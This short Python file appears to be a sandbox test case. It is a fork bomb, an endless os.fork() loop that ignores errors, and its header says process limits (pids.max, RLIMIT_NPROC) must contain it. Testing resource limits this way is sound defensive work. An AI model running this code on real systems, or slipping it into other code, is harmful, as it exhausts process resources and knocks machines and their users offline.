# Attack: fork bomb in Python; pids.max + RLIMIT_NPROC must cap it and nothing may outlive the run.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
